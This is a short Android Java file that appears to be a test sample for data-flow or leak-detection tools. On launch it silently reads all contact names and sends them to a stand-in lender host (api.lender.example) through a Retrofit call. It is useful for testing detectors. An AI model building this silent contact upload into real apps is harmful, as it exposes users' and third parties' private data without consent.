package com.example.flows.retrofit_suspend;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** A suspending function of a Retrofit interface gets fields of a form. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        Api api = new retrofit2.Retrofit.Builder().baseUrl("https://api.lender.example/").build().create(Api.class);
        api.register("7", contacts(), null);
    }
    String contacts() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
        }
        cursor.close();
        return names.toString();
    }
}
